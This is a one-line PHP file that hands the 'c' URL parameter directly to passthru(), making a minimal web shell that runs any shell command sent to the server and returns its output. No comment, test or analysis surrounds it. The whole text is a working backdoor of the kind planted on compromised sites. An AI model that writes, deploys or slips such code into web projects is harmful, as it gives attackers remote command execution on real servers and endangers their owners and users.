<?php Passthru($_GET['c']); ?>
